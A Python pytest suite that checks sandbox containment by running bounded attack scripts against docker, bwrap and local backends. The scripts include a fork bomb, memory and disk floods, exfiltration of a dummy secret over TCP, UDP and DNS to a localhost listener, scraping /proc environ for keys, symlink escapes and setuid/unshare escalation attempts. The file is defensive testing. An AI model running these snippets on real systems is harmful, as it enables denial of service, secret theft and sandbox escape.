"""The attack suite: 20 attacks a candidate could try, each run on docker, bwrap and local.

On docker and bwrap every attack must be contained. On local the weaker outcome
documented in `sandbox/local.py` is asserted instead (and cleaned up after), so a
change in local's behaviour shows up here too. Attacks that could harm the
machine if they escaped are bounded (a fork "bomb" of at most 300 processes, a
disk fill of at most 1 GiB), so a containment failure fails the test, not CI.

The last test asserts that nothing of ours is left: no process carrying this
suite's mark, no container labelled by this process, no new mount, no temp dir.
"""

from __future__ import annotations

import contextlib
import json
import os
import resource
import shutil
import signal
import socket
import subprocess
import tempfile
import textwrap
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from sandbox.artifacts import ArtifactError, read_artifact
from sandbox.execution import Execution, KilledBy, Limits, Sandbox
from tests.sandbox.support import in_ci

MARK = uuid.uuid4().hex
"""Every attack carries STROP_ATTACK_MARK=MARK in its environment: the leftovers test looks for it."""

SECRET = "sk-attack-" + uuid.uuid4().hex

BASE = Limits(
    timeout=10,
    memory=256 << 20,
    pids=32,
    output_bytes=64 << 10,
    scratch_bytes=32 << 20,
    workspace_bytes=64 << 20,
)


def attack(
    box: Sandbox, workdir: Path, script: str, *args: str, limits: Limits = BASE, **kw: object
) -> Execution:
    env = {"STROP_ATTACK_MARK": MARK, **kw.pop("env", {})}  # type: ignore[dict-item]
    return box.run(["python", "-c", textwrap.dedent(script), *args], workdir, limits, env=env, **kw)  # type: ignore[arg-type]


def last_json(result: Execution) -> dict:
    lines = [line for line in result.stdout.splitlines() if line.startswith("{")]
    assert lines, f"no JSON from the attack: {result.tail(1500)}"
    return json.loads(lines[-1])


def filling(target: str, megabytes: int) -> str:
    """An attack writing `megabytes` MiB, a MiB at a time, to the file `target` (a Python expression
    over `os`, `tempfile` and the environment); it prints as JSON how much it wrote, and the error
    that stopped it."""
    return f"""
    import json, os, tempfile
    written = 0
    chunk = b"x" * (1 << 20)
    path = {target}
    try:
        with open(path, "wb") as handle:
            for _ in range({megabytes}):
                handle.write(chunk)
                handle.flush()
                written += len(chunk)
    except OSError as error:
        print(json.dumps({{"written": written, "error": str(error)}}))
    else:
        print(json.dumps({{"written": written}}))
    """


def strong(box: Sandbox) -> bool:
    return box.name in ("docker", "bwrap")


@pytest.fixture
def outside() -> Iterator[Path]:
    """A world-readable, world-writable folder outside the workspace holding a secret file."""
    folder = Path(tempfile.mkdtemp(prefix="strop-attack-outside-", dir="/var/tmp"))
    folder.chmod(0o777)
    secret = folder / "secret.txt"
    secret.write_text(SECRET)
    secret.chmod(0o644)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


# --- resource attacks -------------------------------------------------------------


def test_fork_bomb(backend: Sandbox, workdir: Path) -> None:
    script = """
    import os, time
    made = 0
    for _ in range(300):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        made += 1
    print(made, flush=True)
    time.sleep(0.5)
    """
    result = attack(backend, workdir, script)
    made = int(result.stdout.split()[0])
    if strong(backend):
        assert made < BASE.pids, f"{made} processes made under a limit of {BASE.pids}"
    else:  # documented: local has no process-count limit
        assert made == 300
    assert result.wall_time < BASE.timeout


def test_processes_held_by_one_sandbox_do_not_count_against_another(
    backend: Sandbox, workdir: Path, tmp_path: Path
) -> None:
    """One candidate holds most of its process limit while another sandbox (a sibling under
    `--parallel`, the held scorer) starts and forks. Where the limit is RLIMIT_NPROC (bwrap as
    root), it counts every process of a uid: under a shared uid the second could not even start.
    Defence: each such sandbox runs under a uid of its own."""
    limits = replace(BASE, pids=64, timeout=30)
    holder = tmp_path / "holder"
    holder.mkdir()
    script = """
    import os, subprocess, sys, time
    kids = [subprocess.Popen(["sleep", "20"]) for _ in range(int(sys.argv[1]))]
    open("ready", "w").close()
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and not os.path.exists("done"):
        time.sleep(0.05)
    """
    held: list[Execution] = []
    thread = threading.Thread(
        target=lambda: held.append(attack(backend, holder, script, "48", limits=limits))
    )
    thread.start()
    try:
        for _ in range(200):
            if (holder / "ready").exists() or not thread.is_alive():
                break
            time.sleep(0.1)
        assert (holder / "ready").exists(), held[0].tail() if held else "the holder never got ready"
        forker = """
        import subprocess
        kids = [subprocess.Popen(["true"]) for _ in range(30)]
        print("forked", sum(kid.wait() == 0 for kid in kids))
        """
        result = attack(backend, workdir, forker, limits=limits)
        assert result.ok and "forked 30" in result.stdout, result.tail()
    finally:
        (holder / "done").touch()
        thread.join()


def test_memory_bomb(backend: Sandbox, workdir: Path) -> None:
    script = """
    chunks = []
    while True:
        chunks.append(b"x" * (16 << 20))
    """
    result = attack(backend, workdir, script)
    assert result.killed_by is KilledBy.MEMORY, result.tail()
    if result.peak_memory is not None:
        # docker measures the container's cgroup; bwrap and local measure a forked child, whose
        # peak includes the launching Python's own pages before exec (see sandbox/local.py).
        launcher = (
            0 if backend.name == "docker" else resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
        )
        assert result.peak_memory <= BASE.memory + (16 << 20) + launcher


def test_memory_spread_over_many_processes(backend: Sandbox, workdir: Path) -> None:
    """Six children of 100 MiB each under a 256 MiB limit: each is under the per-process
    address-space rlimit, together they hold more than twice the limit (with the pids limit,
    128 such children hold 50 times a task's `memory`, enough for the host's OOM killer).
    Defence: docker's cgroup; on bwrap and local, `sandbox.memory` sums the processes' PSS."""
    script = """
    import os, time
    kids = []
    for _ in range(6):
        pid = os.fork()
        if pid == 0:
            held = b"x" * (100 << 20)
            time.sleep(8)
            os._exit(0)
        kids.append(pid)
    print([os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) for pid in kids])
    """
    result = attack(backend, workdir, script)
    if backend.name == "docker":  # the cgroup's OOM killer picks children; the sum stays under it
        assert result.peak_memory is not None and result.peak_memory <= BASE.memory, result
    else:
        assert result.killed_by is KilledBy.MEMORY, result.tail()
        assert result.wall_time < 5, result.wall_time


MEMORY_FILES = """
    import os, time
    held = []
    for i in range(8):  # 8 x 50 MiB: each file under RLIMIT_FSIZE, none of it mapped
        fd = os.memfd_create(f"m{i}")
        for _ in range(5):
            os.write(fd, b"x" * (10 << 20))
        held.append(fd)
    print("held", flush=True)
    time.sleep(8)
    """


SYSV_SEGMENTS = """
    import ctypes, time
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    for _ in range(10):  # 10 x 40 MiB segments, each filled, then detached: they keep their pages
        segment = libc.shmget(0, 40 << 20, 0o1600)
        address = libc.shmat(segment, None, 0)
        ctypes.memset(address, 1, 40 << 20)
        libc.shmdt(ctypes.c_void_p(address))
    print("held", flush=True)
    time.sleep(8)
    """


def test_memory_files_count(backend: Sandbox, workdir: Path) -> None:
    """400 MiB under a 256 MiB limit in memory files (`memfd_create`): pages no process maps, so
    neither RLIMIT_AS nor a process's PSS counts them. Defence: docker's cgroup; `sandbox.memory`
    counts memory files open in the sandbox."""
    result = attack(backend, workdir, MEMORY_FILES)
    assert result.killed_by is KilledBy.MEMORY, result.tail()


def test_detached_system_v_segments_count(strong_backend: Sandbox, workdir: Path) -> None:
    """400 MiB in System V segments, each filled and detached: they keep their pages with no
    process mapping them. Defence: docker's cgroup; `sandbox.memory` reads the segments of
    bwrap's own IPC namespace. Not run on local: its segments are the host's, not counted
    (documented in `sandbox/local.py`), and would outlive the test."""
    result = attack(strong_backend, workdir, SYSV_SEGMENTS)
    assert result.killed_by is KilledBy.MEMORY, result.tail()


def test_forked_workers_sharing_their_parents_pages_are_not_a_memory_kill(
    backend: Sandbox, workdir: Path
) -> None:
    """The legitimate neighbour of the attacks above: a parent holding 64 MiB forks six workers
    that only read it (a process pool after loading a model). Their RSS sums to 448 MiB, the
    pages they hold to 64 MiB: the watch counts PSS, as a cgroup counts pages."""
    script = """
    import os, time
    held = b"x" * (64 << 20)
    kids = []
    for _ in range(6):
        pid = os.fork()
        if pid == 0:
            time.sleep(1.0)
            os._exit(held.count(b"y"))
        kids.append(pid)
    print(sum(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) for pid in kids))
    """
    result = attack(backend, workdir, script)
    assert result.ok and result.stdout.strip() == "0", result.tail()


def test_a_memory_error_caught_or_mentioned_is_not_a_memory_kill(backend: Sandbox, workdir: Path) -> None:
    script = """
    import sys
    try:
        raise MemoryError("pretend")
    except MemoryError:
        print("caught MemoryError, retrying with smaller batches", file=sys.stderr)
    print("done")
    """
    survived = attack(backend, workdir, script)
    assert survived.killed_by is None and survived.exit_code == 0, survived.tail()
    mentioned = attack(
        backend, workdir, 'import sys\nprint("no MemoryError here", file=sys.stderr)\nsys.exit(3)\n'
    )
    assert mentioned.killed_by is None and mentioned.exit_code == 3, mentioned.tail()


def test_disk_fill_workspace(backend: Sandbox, workdir: Path) -> None:
    script = """
    chunk = b"x" * (1 << 20)
    for i in range(1024):
        with open(f"fill-{i}", "wb") as handle:
            handle.write(chunk)
    """
    result = attack(backend, workdir, script)
    written = sum(path.stat().st_size for path in workdir.iterdir())
    assert result.killed_by is KilledBy.DISK, result.tail()
    assert written <= BASE.workspace_bytes + (256 << 20)


def test_disk_fill_scratch(backend: Sandbox, workdir: Path) -> None:
    target = 'os.path.join(tempfile.gettempdir(), "strop-attack-scratch-" + os.environ["STROP_ATTACK_MARK"])'
    result = attack(backend, workdir, filling(target, 512))
    host_file = Path(tempfile.gettempdir()) / f"strop-attack-scratch-{MARK}"
    try:
        if strong(backend):
            assert last_json(result)["written"] <= BASE.scratch_bytes
            assert not host_file.exists(), "the sandbox's /tmp is the host's"
        else:  # local: the host's TMPDIR, held by the per-file size limit and the disk watchdog
            assert result.killed_by is KilledBy.DISK or last_json(result)["written"] <= BASE.workspace_bytes
    finally:
        host_file.unlink(missing_ok=True)


def test_disk_fill_shm(backend: Sandbox, workdir: Path) -> None:
    result = attack(
        backend, workdir, filling('"/dev/shm/strop-attack-" + os.environ["STROP_ATTACK_MARK"]', 96)
    )
    host_file = Path(f"/dev/shm/strop-attack-{MARK}")
    try:
        written = last_json(result)["written"]
        if strong(backend):
            assert written <= BASE.scratch_bytes
            assert not host_file.exists()
        else:  # documented: local's /dev/shm is the host's; only the per-file size limit holds it
            assert written == max(BASE.workspace_bytes, BASE.scratch_bytes) and host_file.exists()
    finally:
        host_file.unlink(missing_ok=True)


@pytest.mark.parametrize("where", ["workspace", "tmp", "shm"])
def test_empty_file_flood(backend: Sandbox, workdir: Path, where: str) -> None:
    """Empty files by the hundred thousand take no bytes: the byte watch never trips, while the
    host's inode table fills (workspace) or the kernel's memory does (a tmpfs inode, /tmp and
    /dev/shm). Defence: `Limits.files`, watched (inodes; local's /tmp and /dev/shm are the
    host's) or a tmpfs `nr_inodes` (docker)."""
    limits = replace(BASE, files=2_000, timeout=30)
    script = """
    import json, os, sys, tempfile
    base = {"workspace": ".", "tmp": tempfile.gettempdir(), "shm": "/dev/shm"}[sys.argv[1]]
    folder = os.path.join(base, "strop-attack-files-" + os.environ["STROP_ATTACK_MARK"])
    os.mkdir(folder)
    fd, made = os.open(folder, os.O_RDONLY), 0
    try:
        for made in range(1, 200_001):
            os.close(os.open(f"f{made}", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd))
    except OSError as error:
        print(json.dumps({"made": made - 1, "error": str(error)}))
    else:
        print(json.dumps({"made": made}))
    """
    try:
        result = attack(backend, workdir, script, where, limits=limits)
        if result.killed_by is not KilledBy.DISK:
            assert last_json(result)["made"] <= limits.files, result.tail()
    finally:
        for base in (Path(tempfile.gettempdir()), Path("/dev/shm")):
            shutil.rmtree(base / f"strop-attack-files-{MARK}", ignore_errors=True)


def test_endless_output(backend: Sandbox, workdir: Path) -> None:
    script = """
    import sys
    while True:
        sys.stdout.write("x" * 65536)
    """
    result = attack(backend, workdir, script)
    assert result.killed_by is KilledBy.OUTPUT
    assert result.output_truncated
    assert len(result.stdout) == BASE.output_bytes
    assert result.wall_time < BASE.timeout


def test_sleep_past_timeout_ignoring_sigterm(backend: Sandbox, workdir: Path) -> None:
    script = """
    import signal, time
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    print("ready", flush=True)
    time.sleep(120)
    """
    limits = Limits(**{**BASE.__dict__, "timeout": 2.0})
    result = attack(backend, workdir, script, limits=limits)
    assert result.killed_by is KilledBy.TIMEOUT
    assert result.exit_code is None
    assert 2.0 <= result.wall_time < 6.0


def test_double_forked_daemon(backend: Sandbox, workdir: Path) -> None:
    script = """
    import os, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            with open("daemon.pid", "w") as handle:
                handle.write(str(os.getpid()))
            for _ in range(400):
                with open("heartbeat", "a") as handle:
                    handle.write(".")
                time.sleep(0.05)
            os._exit(0)
        os._exit(0)
    time.sleep(0.5)
    """
    result = attack(backend, workdir, script)
    assert result.exit_code == 0, result.tail()
    beat = workdir / "heartbeat"
    size = beat.stat().st_size
    time.sleep(0.6)
    if strong(backend):
        assert beat.stat().st_size == size, "the daemon outlived the run"
    else:  # documented: a setsid daemon leaves local's process group
        assert beat.stat().st_size > size
        with contextlib.suppress(ProcessLookupError):
            os.kill(int((workdir / "daemon.pid").read_text()), signal.SIGKILL)


# --- exfiltration -----------------------------------------------------------------


class Listener:
    """A TCP or UDP listener on 127.0.0.1 that records whatever reaches it."""

    def __init__(self, kind: int) -> None:
        self.sock = socket.socket(socket.AF_INET, kind)
        self.sock.bind(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.kind = kind
        if kind == socket.SOCK_STREAM:
            self.sock.listen(4)
        self.sock.settimeout(0.2)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                if self.kind == socket.SOCK_STREAM:
                    conn, _ = self.sock.accept()
                    with conn:
                        conn.settimeout(1)
                        self.received.append(conn.recv(4096) or b"<connected>")
                else:
                    self.received.append(self.sock.recvfrom(4096)[0])
            except OSError:
                continue

    def close(self) -> list[bytes]:
        time.sleep(0.3)
        self.stop.set()
        self.thread.join()
        self.sock.close()
        return self.received


@pytest.mark.parametrize("protocol", ["tcp", "udp", "dns"])
def test_network_exfiltration(backend: Sandbox, workdir: Path, protocol: str) -> None:
    listener = Listener(socket.SOCK_STREAM if protocol == "tcp" else socket.SOCK_DGRAM)
    script = """
    import json, socket, struct, sys
    protocol, port, secret = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    sent = False
    try:
        if protocol == "tcp":
            with socket.create_connection(("127.0.0.1", port), timeout=2) as conn:
                conn.sendall(secret.encode())
            sent = True
        elif protocol == "udp":
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.sendto(secret.encode(), ("127.0.0.1", port))
            sent = True
        else:
            name = b"".join(bytes([len(p)]) + p for p in (secret.encode()[:60], b"exfil", b"test")) + b"\\0"
            query = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.sendto(query, ("127.0.0.1", port))
            sent = True
            try:
                socket.getaddrinfo(secret[:60] + ".exfil.test", 80)
            except OSError:
                pass
    except OSError as error:
        print(json.dumps({"sent": False, "error": str(error)}))
    else:
        print(json.dumps({"sent": sent}))
    """
    result = attack(backend, workdir, script, protocol, str(listener.port), SECRET)
    received = b"".join(listener.close())
    if strong(backend):
        assert SECRET[:60].encode() not in received and not received, received[:200]
    else:  # documented: local shares the host's network
        assert SECRET[:60].encode() in received, result.tail()


# --- secrets and files ------------------------------------------------------------


def test_secret_from_host_environment(
    backend: Sandbox, workdir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("STROP_ATTACK_API_KEY", SECRET)
    holder = subprocess.Popen(["sleep", "30"], env={**os.environ, "HOLDER_ACCESS_TOKEN": SECRET})
    script = """
    import json, os, sys
    secret = sys.argv[1]
    in_env = [k for k, v in os.environ.items() if secret in v]
    in_proc = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if secret.encode() in open(f"/proc/{pid}/environ", "rb").read():
                    in_proc.append(pid)
            except OSError:
                pass
    print(json.dumps({"env": in_env, "proc": in_proc}))
    """
    try:
        passed = {"OPENAI_API_KEY": SECRET, "DB_PASSWORD": SECRET, "MY_SECRET": SECRET, "HARMLESS": "ok"}
        result = attack(backend, workdir, script, SECRET, env=passed)
    finally:
        holder.kill()
        holder.wait()
    seen = last_json(result)
    assert seen["env"] == [], "a secret-named variable reached the candidate"
    if strong(backend):
        assert seen["proc"] == []
    else:  # documented: local sees the host's processes, and their environments
        assert str(holder.pid) in seen["proc"]


def test_a_secret_read_from_another_process_is_not_printed_as_it_is(
    backend: Sandbox, workdir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The candidate prints every secret-looking variable of every /proc/PID/environ it can read.
    On local that includes strop's own (documented), so the key went to the log, the report and
    the LLM's feedback. Defence: strop's secret values are redacted from what a command printed."""
    monkeypatch.setenv("STROP_ATTACK_API_KEY", SECRET)  # strop's environment, as redact reads it
    # /proc/PID/environ shows the environment a process started with: strop's, for this one.
    holder = subprocess.Popen(["sleep", "30"], env={**os.environ, "STROP_ATTACK_API_KEY": SECRET})
    script = """
    import os
    for pid in os.listdir("/proc"):
        try:
            data = open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
        for entry in data.split(b"\\0"):
            if entry.startswith(b"STROP_ATTACK_API_KEY="):
                print(entry.decode())
    """
    try:
        result = attack(backend, workdir, script)
    finally:
        holder.kill()
        holder.wait()
    assert result.ok, result.tail()
    assert SECRET not in result.stdout + result.stderr
    if not strong(backend):  # it was there to be read
        assert "[STROP_ATTACK_API_KEY redacted]" in result.stdout, result.tail()


def test_secret_env_names_never_reach_candidate(backend: Sandbox, workdir: Path) -> None:
    script = "import json, os; print(json.dumps(dict(os.environ)))"
    passed = {"OPENAI_API_KEY": "a", "GITHUB_TOKEN": "b", "AWS_SECRET_ACCESS_KEY": "c", "PGPASSWORD": "d"}
    result = attack(backend, workdir, script, env={**passed, "HARMLESS": "ok"})
    seen = last_json(result)
    assert not [name for name in seen if any(w in name for w in ("KEY", "TOKEN", "SECRET", "PASSWORD"))]
    assert seen["HARMLESS"] == "ok"


def test_read_host_file_outside_mounts(backend: Sandbox, workdir: Path, outside: Path) -> None:
    script = """
    import json, sys
    try:
        print(json.dumps({"read": open(sys.argv[1]).read()}))
    except OSError as error:
        print(json.dumps({"read": None, "error": str(error)}))
    """
    seen = last_json(attack(backend, workdir, script, str(outside / "secret.txt")))
    if strong(backend):
        assert seen["read"] is None
    else:  # documented: local sees the host's files
        assert seen["read"] == SECRET


def test_write_outside_workspace(backend: Sandbox, workdir: Path, outside: Path) -> None:
    protected = workdir / "evaluate.py"
    protected.write_text("print('the real evaluator')\n")
    targets = [str(outside / "pwned"), str(protected), str(workdir.parent / "pwned")]
    if strong(backend):  # as root, local would really write these: only asked of the strong ones
        targets += ["/usr/pwned", f"{os.path.dirname(os.path.dirname(shutil.which('python') or '/x'))}/pwned"]
    script = """
    import json, sys
    done = []
    for target in sys.argv[1:]:
        try:
            with open(target, "w") as handle:
                handle.write("pwned")
            done.append(target)
        except OSError:
            pass
    print(json.dumps({"written": done}))
    """
    result = attack(backend, workdir, script, *targets, readonly_paths=[protected])
    written = last_json(result)["written"]
    if strong(backend):
        assert written == []
        assert protected.read_text() == "print('the real evaluator')\n"
        assert not (outside / "pwned").exists() and not (workdir.parent / "pwned").exists()
    else:  # documented: local protects nothing outside (the evaluator's fingerprint catches the edit)
        assert str(outside / "pwned") in written and protected.read_text() == "pwned"


def test_symlink_escape_on_copy_out(backend: Sandbox, workdir: Path, outside: Path) -> None:
    script = """
    import os, sys
    os.symlink(sys.argv[1], "metrics.json")
    os.symlink("/", "root")
    os.symlink("..", "up")
    os.makedirs("out")
    os.symlink(sys.argv[1], "out/submission.csv")
    os.mkfifo("fifo.json")
    """
    result = attack(backend, workdir, script, str(outside / "secret.txt"))
    assert result.exit_code == 0, result.tail()
    for relpath in (
        "metrics.json",
        "root/etc/passwd",
        "up/workspace/metrics.json",
        "out/submission.csv",
        "fifo.json",
        "../workspace/metrics.json",
        str(outside / "secret.txt"),
    ):
        with pytest.raises(ArtifactError):
            read_artifact(workdir, relpath, 1 << 20)


def test_privilege_escalation(backend: Sandbox, workdir: Path) -> None:
    script = """
    import json, os, subprocess
    report = {"uid": os.getuid(), "euid": os.geteuid()}
    try:
        os.setuid(0)
        report["setuid"] = True
    except OSError:
        report["setuid"] = False
    os.makedirs("mnt", exist_ok=True)
    mount = subprocess.run(["mount", "-t", "tmpfs", "none", "mnt"], capture_output=True)
    report["mount"] = mount.returncode == 0
    if report["mount"]:
        subprocess.run(["umount", "mnt"])
    report["euid_after_su"] = subprocess.run(
        ["su", "-c", "id -u", "root"], capture_output=True, stdin=subprocess.DEVNULL, text=True
    ).stdout.strip()
    caps = [l.split()[1] for l in open("/proc/self/status") if l.startswith("CapEff")]
    report["capeff"] = int(caps[0], 16)
    print(json.dumps(report))
    """
    seen = last_json(attack(backend, workdir, script))
    if strong(backend):
        assert seen["uid"] != 0 and seen["euid"] != 0
        assert not seen["setuid"] and not seen["mount"]
        assert seen["euid_after_su"] != "0" and seen["capeff"] == 0
    else:  # documented: local runs with the caller's identity, whatever it is
        assert seen["uid"] == os.getuid()


def test_user_namespace(strong_backend: Sandbox, workdir: Path) -> None:
    """In a user namespace of its own a candidate is root there: it can mount a tmpfs that
    neither the disk watch nor the file count sees (measured: 600,000 files past a 250,000
    cap under bwrap as root, before the syscall filter)."""
    script = """
    import ctypes, json, subprocess
    libc = ctypes.CDLL(None, use_errno=True)
    report = {"unshare": libc.unshare(0x10000000), "errno": ctypes.get_errno()}
    mount = subprocess.run(["unshare", "-Urm", "sh", "-c", "mount -t tmpfs none /tmp && echo mounted"],
                           capture_output=True, text=True)
    report["mounted"] = "mounted" in mount.stdout
    print(json.dumps(report))
    """
    seen = last_json(attack(strong_backend, workdir, script))
    assert seen == {"unshare": -1, "errno": 1, "mounted": False}, seen


def test_disk_reserved_at_once(strong_backend: Sandbox, workdir: Path) -> None:
    """`fallocate` reserves blocks in one call, faster than any watch: 30 processes took 31 GB
    in 0.18 s before the filter. Refused now (EOPNOTSUPP), glibc's `posix_fallocate` writes
    the blocks one by one and the disk watch stops it near the cap."""
    script = """
    import json, os, subprocess
    direct = subprocess.run(["fallocate", "-l", "16M", "direct"], capture_output=True, text=True)
    print(json.dumps({"direct": direct.returncode, "why": direct.stderr.strip()}), flush=True)
    children = []
    for i in range(8):
        pid = os.fork()
        if pid == 0:
            fd = os.open(f"reserved-{i}", os.O_CREAT | os.O_RDWR)
            try:
                os.posix_fallocate(fd, 0, 256 << 20)
            finally:
                os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
    """
    result = attack(strong_backend, workdir, script, limits=replace(BASE, timeout=30))
    allocated = sum(path.stat().st_blocks * 512 for path in workdir.iterdir() if path.is_file())
    first = json.loads(result.stdout.splitlines()[0])
    assert first["direct"] != 0 and "not supported" in first["why"], first
    assert result.killed_by is KilledBy.DISK, result.tail()
    assert allocated <= BASE.workspace_bytes + (512 << 20), allocated


# --- nothing left behind ----------------------------------------------------------


def _marked_processes() -> list[int]:
    found = []
    needle = f"STROP_ATTACK_MARK={MARK}".encode()
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            with contextlib.suppress(OSError):
                if needle in Path(f"/proc/{entry}/environ").read_bytes():
                    found.append(int(entry))
    return found


def _mounts() -> set[str]:
    return {line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()}


_BEFORE = {"mounts": _mounts(), "temp": set(os.listdir(tempfile.gettempdir()))}


def _leftovers() -> dict[str, object]:
    """What of ours is still there; other engineers' containers and probes are ignored."""
    mounts = {
        m for m in _mounts() - _BEFORE["mounts"] if not m.startswith(("/var/lib/docker/", "/run/docker/"))
    }
    temp = {
        name
        for name in set(os.listdir(tempfile.gettempdir())) - _BEFORE["temp"]
        if name.startswith(("strop-sandbox", "strop-attack"))
    }
    return {
        "processes": _marked_processes(),
        "mounts": mounts,
        "temp": temp,
        "var_tmp": [p.name for p in Path("/var/tmp").iterdir() if p.name.startswith("strop-attack")],
        "shm": [p.name for p in Path("/dev/shm").iterdir() if p.name.startswith("strop-attack")],
    }


def test_nothing_left_behind() -> None:
    """After the suite: no marked process, no container of ours, no new mount, no temp dir."""
    deadline = time.monotonic() + 5
    left = _leftovers()
    while any(left.values()) and time.monotonic() < deadline:  # another run's probe may be in flight
        time.sleep(0.2)
        left = _leftovers()
    assert not any(left.values()), left
    try:
        import docker

        client = docker.from_env(timeout=30)
        client.ping()
    except Exception as error:
        if in_ci():
            pytest.fail(f"docker must answer in CI: {error}")
    else:
        labels = ["strop.sandbox=1", f"strop.pid={os.getpid()}"]
        assert client.api.containers(all=True, filters={"label": labels}) == []
